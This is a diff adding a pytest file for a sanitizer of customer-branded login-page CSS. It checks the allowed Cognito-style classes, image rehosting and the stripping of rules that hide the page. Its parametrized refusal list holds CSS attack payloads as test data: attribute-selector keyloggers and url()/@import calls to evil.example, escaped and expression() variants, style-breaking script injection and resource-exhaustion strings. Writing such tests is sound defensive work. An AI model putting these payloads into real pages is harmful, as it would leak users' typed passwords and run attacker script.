@@ -1,0 +1,165 @@
+"""What is shown of a customer's CSS? Attack row 88: rules that tell another server what somebody types, and all that is like it."""
+
+import base64
+
+import pytest
+
+from pages.pictures import png
+from poolkeeper.branding.classic_css import CLASSES, BadCss, cleaned
+
+# The template that Cognito's console gives (general knowledge): whoever starts from it must get what it says.
+TEMPLATE = """
+.logo-customizable { max-width: 60%; max-height: 30%; }
+.banner-customizable { padding: 25px 0px 25px 0px; background-color: lightgray; }
+.label-customizable { font-weight: 400; }
+.textDescription-customizable { padding-top: 10px; padding-bottom: 10px; display: block; font-size: 16px; }
+.idpDescription-customizable { padding-top: 10px; padding-bottom: 10px; display: block; font-size: 16px; }
+.legalText-customizable { color: #747474; font-size: 11px; }
+.submitButton-customizable { font-size: 14px; font-weight: bold; margin: 20px 0px 10px 0px; height: 40px; width: 100%;
+    color: #fff; background-color: #337ab7; }
+.submitButton-customizable:hover { color: #fff; background-color: #286090; }
+.errorMessage-customizable { padding: 5px; font-size: 14px; width: 100%; background: #F5F5F5; border: 2px solid #D64958;
+    color: #D64958; }
+.inputField-customizable { width: 100%; height: 34px; color: #555; background-color: #fff; border: 1px solid #ccc; }
+.inputField-customizable:focus { border-color: #66afe9; outline: 0; }
+.idpButton-customizable { height: 40px; width: 100%; text-align: center; margin-bottom: 15px; color: #fff;
+    background-color: #5bc0de; border-color: #46b8da; }
+.idpButton-customizable:hover { color: #fff; background-color: #31b0d5; }
+.socialButton-customizable { border-radius: 2px; height: 40px; margin-bottom: 15px; padding: 1px; text-align: left; }
+.redirect-customizable { text-align: center; }
+.passwordCheck-notValid-customizable { color: #DF3312; }
+.passwordCheck-valid-customizable { color: #19BF00; }
+.background-customizable { background-color: #fff; }
+"""
+
+
+class Shelf:
+    """Keeps the pictures that stood in a sheet."""
+
+    def __init__(self) -> None:
+        self.kept: list[bytes] = []
+
+    def __call__(self, content: bytes) -> str:
+        self.kept.append(content)
+        return f"/kept/{len(self.kept)}.png"
+
+
+def test_the_template_of_the_console_is_shown_as_it_is() -> None:
+    """Every declaration of it but `outline: 0`, which would hide where the focus is."""
+    result = cleaned(TEMPLATE, Shelf())
+    assert result.left_out == [".inputField-customizable outline"]
+    wanted = TEMPLATE.replace(" outline: 0;", "").lower().count(": ")
+    assert result.css.count(": ") == wanted
+    for name in CLASSES:
+        assert f".{name}-customizable.{name}-customizable" in result.css
+
+
+def test_a_picture_in_a_sheet_becomes_one_of_our_own_origin() -> None:
+    """The policy of pages lets no `data:` picture be shown, so that none can carry anything."""
+    shelf = Shelf()
+    data = base64.b64encode(png()).decode()
+    css = cleaned(
+        f'.banner-customizable {{ background: #fff url("data:image/png;base64,{data}") no-repeat }}', shelf
+    ).css
+    assert shelf.kept == [png()]
+    assert 'url("/kept/1.png")' in css
+    assert "data:" not in css
+
+
+EXFILTRATING = [
+    "@import url(https://evil.example/x.css);",
+    "@import 'https://evil.example/x.css';",
+    "@font-face { font-family: x; src: url(https://evil.example/x) }",
+    "@media screen { .label-customizable { color: red } }",
+    "@supports (color: red) { .label-customizable { color: red } }",
+    "@page { margin: 0 }",
+    "@charset 'utf-7';",
+    "input[value^=a] { background: url(https://evil.example/a) }",
+    ".inputField-customizable[value^='a'] { background: url(https://evil.example/a) }",
+    ".inputField-customizable[name=password] { color: red }",
+    ".inputField-customizable:not([value='']) { color: red }",
+    ".inputField-customizable:valid { color: red }",
+    ".label-customizable::before { content: 'x' }",
+    ".label-customizable, input { color: red }",
+    ".label-customizable input { color: red }",
+    ".label-customizable > a { color: red }",
+    ".label-customizable + input { color: red }",
+    ".label-customizable.x { color: red }",
+    "body { background: red }",
+    "* { color: red }",
+    ":root { --ml-primary: red }",
+    "#f-password { color: red }",
+    ".login { display: none }",
+    ".label-customizable { background: url(https://evil.example/x) }",
+    ".label-customizable { background: URL( 'https://evil.example/x' ) }",
+    ".label-customizable { background: u\\72l(https://evil.example/x) }",
+    ".label-customizable { background: \\75rl(//evil.example) }",
+    ".label-customizable { background: url(//evil.example/x) }",
+    ".label-customizable { background: url(/logout) }",
+    ".label-customizable { background: url('data:text/html;base64,PHNjcmlwdD4=') }",
+    ".label-customizable { background: url('data:image/svg+xml,<svg onload=alert(1)>') }",
+    ".label-customizable { background: url('data:image/png;base64,####') }",
+    ".label-customizable { background: image-set('https://evil.example/x' 1x) }",
+    ".label-customizable { background: -webkit-image-set(url(https://evil.example/x) 1x) }",
+    ".label-customizable { background: image('https://evil.example/x') }",
+    ".label-customizable { background: cross-fade(url(https://evil.example/x), red) }",
+    ".label-customizable { background: element(#f-password) }",
+    ".label-customizable { cursor: url(https://evil.example/x), auto }",
+    ".label-customizable { content: attr(value) }",
+    ".label-customizable { width: expression(alert(1)) }",
+    ".label-customizable { width: e\\xpression(alert(1)) }",
+    ".label-customizable { behavior: url(x.htc) }",
+    ".label-customizable { -moz-binding: url(x.xml#y) }",
+    ".label-customizable { color: var(--ml-primary, url(https://evil.example)) }",
+    ".label-customizable { font-family: 'a</style><script>alert(1)</script>' }",
+    ".label-customizable { color: red; } </style><script>alert(1)</script>",
+    "</style><script>alert(1)</script>",
+    ".label-customizable { .nested { color: red } }",
+    ".label-customizable { color: red; { } }",
+    ".label-customizable { background: linear-gradient(red, url(https://evil.example/x)) }",
+    ".background-customizable { background: url('data:image/png;base64,R0lGODlh') }",
+    ".label-customizable { width: 99999999px }",
+    ".label-customizable { " + "width: " + "calc(" * 60 + "1px" + ")" * 60 + " }",
+    ".label-customizable { color: red } " * 300,
+    "{" * 50_000,
+    "(" * 50_000,
+]
+
+
+@pytest.mark.parametrize("css", EXFILTRATING)
+def test_css_that_could_tell_or_run_is_refused(css: str) -> None:
+    """Attack row 88: other selectors, at-rules, addresses, functions, escapes; refused as a whole, in AWS's words where known."""
+
+    def keep(content: bytes) -> str:
+        if not content.startswith(b"\x89PNG"):
+            raise BadCss("no picture")
+        return "/"
+
+    with pytest.raises(BadCss):
+        cleaned(css, keep)
+
+
+def test_another_class_is_refused_in_the_words_of_aws() -> None:
+    """measured.md 9."""
+    with pytest.raises(BadCss, match=r"^The CSS class \.foo is not in the list of allowed classes\.$"):
+        cleaned(".foo { color: red }", Shelf())
+
+
+@pytest.mark.parametrize(
+    "css", ["", "   ", "/* nothing */", ".label-customizable {}", ".label-customizable { color: red"]
+)
+def test_css_that_says_little_is_taken(css: str) -> None:
+    """Nothing, a comment, an empty rule, and one that ends with the text, which CSS closes itself."""
+    assert ("color: red" in cleaned(css, Shelf()).css) is ("red" in css)
+
+
+def test_what_a_page_needs_cannot_be_hidden() -> None:
+    """`display: none` goes for the logo, and is left out for errors, fields and buttons; so is what lies over other things."""
+    css = "".join(
+        f".{name}-customizable {{ display: none; position: fixed; z-index: 9; opacity: 0 }}" for name in CLASSES
+    )
+    result = cleaned(css, Shelf())
+    hidden = {line.partition("-customizable")[0].removeprefix(".") for line in result.css.splitlines()}
+    assert hidden == {"banner", "idpDescription", "legalText", "logo", "redirect", "textDescription"}
+    assert "position" not in result.css
+    assert "opacity" not in result.css
